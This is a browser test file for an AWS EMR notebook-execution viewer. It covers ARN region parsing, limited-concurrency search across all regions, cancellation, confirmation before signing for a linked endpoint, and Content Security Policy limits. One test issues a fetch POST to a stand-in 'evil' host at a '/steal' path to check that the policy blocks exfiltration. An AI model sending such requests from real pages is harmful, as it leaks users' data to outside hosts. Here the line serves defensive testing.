// Finding an execution in any region, and links that cannot be turned against the user: an ARN
// sets the region; "Search all regions" finds an ID elsewhere with at most four requests in flight
// and stops (or is cancelled); a link with an endpoint asks before anything is signed; the CSP
// blocks other amazonaws.com hosts.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { ROOT, startEmulator, startPreview, launch, openApp, describe, fillForm, seedId, cspViolations, DEMO, reload } from './harness.mjs';

const stack = {};
before(async () => {
  [stack.emulator, stack.preview, stack.browser] = await Promise.all([
    startEmulator(['--frozen', '--regions', 'us-east-1,eu-west-1,me-central-1', '--not-enabled', 'af-south-1']),
    startPreview(),
    launch(),
  ]);
});
after(async () => {
  await stack.browser?.close();
  stack.emulator?.stop();
  stack.preview?.stop();
});

const EU = seedId('EUWEST1FINISHED');
const ME = seedId('MECENTRAL1FINISHED');
const describes = (log) => log.requests.filter((r) => r.headers['x-amz-target'] === 'ElasticMapReduce.DescribeNotebookExecution');

test('an execution ARN sets the region, says so, and describes', async () => {
  await stack.emulator.control('POST', 'reset');
  const { page, context } = await openApp(stack.browser, stack.preview.url);
  await describe(page, { endpoint: stack.emulator.url, id: ` "arn:aws:elasticmapreduce:eu-west-1:111122223333:notebook-execution/${EU}" ` });
  await page.locator('article header [data-status="FINISHED"]').waitFor();
  assert.equal(await page.getByLabel('Region', { exact: true }).inputValue(), 'eu-west-1');
  assert.match(await page.locator('.open .note').textContent(), /Region set to eu-west-1 from the ARN/);
  assert.equal(await page.getByLabel('Notebook execution ID', { exact: true }).inputValue(), EU);
  assert.match(page.url(), new RegExp(`region=eu-west-1&.*id=${EU}`));
  // Another service's ARN is refused with a reason, and nothing is sent.
  const before = (await stack.emulator.control('GET', 'requests')).length;
  await page.getByLabel('Notebook execution ID', { exact: true }).fill('arn:aws:elasticmapreduce:eu-west-1:111122223333:cluster/j-142PVKGDZTTXS');
  await page.getByRole('button', { name: 'Describe' }).click();
  assert.match(await page.locator('[role=alert]').textContent(), /names a cluster, not a notebook execution/);
  assert.equal((await stack.emulator.control('GET', 'requests')).length, before);
  await context.close();
});

test('Search all regions finds it elsewhere with at most four requests in flight, then stops', async () => {
  await stack.emulator.control('POST', 'reset');
  await stack.emulator.control('POST', 'faults', { kind: 'latency', ms: 250, execution_id: ME });
  const { page, context, log } = await openApp(stack.browser, stack.preview.url);
  let open = 0;
  let peak = 0;
  const track = (r, d) => {
    if (r.headers()['x-amz-target'] !== 'ElasticMapReduce.DescribeNotebookExecution') return;
    open += d;
    peak = Math.max(peak, open);
  };
  page.on('request', (r) => track(r, 1));
  page.on('requestfinished', (r) => track(r, -1));
  page.on('requestfailed', (r) => track(r, -1));
  await describe(page, { endpoint: stack.emulator.url, id: ME });
  assert.match(await page.locator('[role=alert]').textContent(), /InvalidRequestException/);
  await page.getByRole('button', { name: 'Search all regions' }).click();
  await page.locator('article header [data-status="FINISHED"]').waitFor({ timeout: 30_000 });
  assert.equal(await page.getByLabel('Region', { exact: true }).inputValue(), 'me-central-1');
  assert.match(await page.locator('.open .note').textContent(), /Found in me-central-1/);
  assert.match(page.url(), /region=me-central-1/);
  assert.ok(peak <= 4 && peak >= 2, `peak ${peak} in flight`);
  const asked = describes(log).length;
  await page.waitForTimeout(1_500);
  assert.equal(describes(log).length, asked, 'nothing after the hit');
  // Each region was asked once, us-east-1 only by the first Describe.
  const scopes = describes(log).map((r) => r.headers.authorization.match(/Credential=[^/]+\/\d+\/([^/]+)\//)[1]);
  assert.equal(new Set(scopes).size, scopes.length, scopes.join());
  assert.equal(scopes[0], 'us-east-1');
  assert.ok(scopes.includes('me-central-1'));
  assert.deepEqual(await cspViolations(page), []);
  await context.close();
});

test('a search can be cancelled, and the regions not enabled are told apart', async () => {
  await stack.emulator.control('POST', 'reset');
  await stack.emulator.control('POST', 'faults', { kind: 'latency', ms: 400, execution_id: 'ex-NOWHERE' });
  const { page, context, log } = await openApp(stack.browser, stack.preview.url);
  await describe(page, { endpoint: stack.emulator.url, id: 'ex-NOWHERE' });
  await page.getByRole('button', { name: 'Search all regions' }).click();
  await page.locator('.search-regions__status', { hasText: 'Searching all regions' }).waitFor();
  await page.waitForTimeout(1_000);
  await page.getByRole('button', { name: 'Cancel search' }).click();
  const asked = describes(log).length;
  await page.waitForTimeout(1_500);
  assert.equal(describes(log).length, asked, 'no request after Cancel');
  assert.match(await page.locator('.search-regions__status').textContent(), /^Search cancelled after \d+ of 34 regions\./);
  // To the end this time: nowhere, with af-south-1 reported as not enabled.
  await stack.emulator.control('DELETE', 'faults');
  await page.getByRole('button', { name: 'Search all regions' }).click();
  await page.locator('.search-regions__status', { hasText: 'Not found in any of the 34 regions of AWS' }).waitFor({ timeout: 30_000 });
  const summary = await page.locator('.search-regions__status').textContent();
  assert.match(summary, /Not enabled for this account: af-south-1\./);
  assert.match(summary, /Not served by this Endpoint URL: 30\./);
  await context.close();
});

test('a link that brings an endpoint signs nothing until the user confirms; refusing keeps the rest', async () => {
  await stack.emulator.control('POST', 'reset');
  const { page, context, log } = await openApp(stack.browser, stack.preview.url);
  // Remembered credentials: the page would describe on arrival if it trusted the link.
  await fillForm(page, {});
  await page.getByLabel('Remember credentials in this tab', { exact: true }).check();
  const link = `${stack.preview.url}#view=detail&region=eu-west-1&endpoint=${encodeURIComponent(stack.emulator.url)}&id=${EU}`;
  await page.goto(link);
  await reload(page);
  await page.locator('.confirm-endpoint').waitFor();
  assert.equal(await page.getByTestId('link-endpoint').textContent(), stack.emulator.url);
  await page.waitForTimeout(500);
  assert.equal(log.requests.filter((r) => r.method === 'POST').length, 0, 'zero requests before the confirmation');
  await page.getByRole('button', { name: "Don't use it" }).click();
  assert.equal(await page.getByLabel('Endpoint URL', { exact: true }).inputValue(), '');
  assert.equal(await page.getByLabel('Notebook execution ID', { exact: true }).inputValue(), EU);
  assert.equal(await page.getByLabel('Region', { exact: true }).inputValue(), 'eu-west-1');
  assert.ok(!page.url().includes('endpoint='), page.url());
  assert.ok(page.url().includes(`id=${EU}`) && page.url().includes('region=eu-west-1'));
  assert.equal(log.requests.filter((r) => r.url.startsWith(stack.emulator.url)).length, 0);

  // The same link confirmed: one describe goes there, and this tab remembers the host.
  await page.goto(link);
  await reload(page);
  await page.getByRole('button', { name: 'Use this endpoint' }).click();
  await page.locator('article header [data-status="FINISHED"]').waitFor();
  assert.equal(describes(log).filter((r) => r.url.startsWith(stack.emulator.url)).length, 1);
  await reload(page);
  await page.locator('article header [data-status="FINISHED"]').waitFor();
  assert.equal(await page.locator('.confirm-endpoint').count(), 0, 'confirmed for this host in this tab');
  await context.close();
});

test('the CSP names EMR and S3 endpoints, not all of amazonaws.com', async () => {
  const { page, context } = await openApp(stack.browser, stack.preview.url);
  const html = await (await fetch(stack.preview.url)).text();
  const headers = JSON.parse(readFileSync(join(ROOT, 'deploy/headers.json'), 'utf8'));
  const meta = html.match(/<meta http-equiv="Content-Security-Policy" content="([^"]+)"/)[1];
  assert.equal(meta, headers.meta_content_security_policy);
  assert.match(meta, /connect-src 'self' https:\/\/elasticmapreduce\.us-east-1\.amazonaws\.com /);
  const blocked = await page.evaluate(async () => {
    try {
      await fetch('https://evil.execute-api.us-east-1.amazonaws.com/steal', { method: 'POST', body: 'x' });
      return 'sent';
    } catch (e) {
      return 'blocked';
    }
  });
  assert.equal(blocked, 'blocked');
  const violations = await cspViolations(page);
  assert.ok(violations.some((v) => v.startsWith('connect-src https://evil.execute-api.us-east-1.amazonaws.com')), violations.join());
  // An EMR endpoint is allowed by the policy (the network here is closed, so it fails later).
  const before = violations.length;
  await page.evaluate(() => fetch('https://elasticmapreduce.eu-west-1.amazonaws.com/').catch(() => {}));
  await page.waitForTimeout(200);
  assert.equal((await cspViolations(page)).length, before);
  await context.close();
});
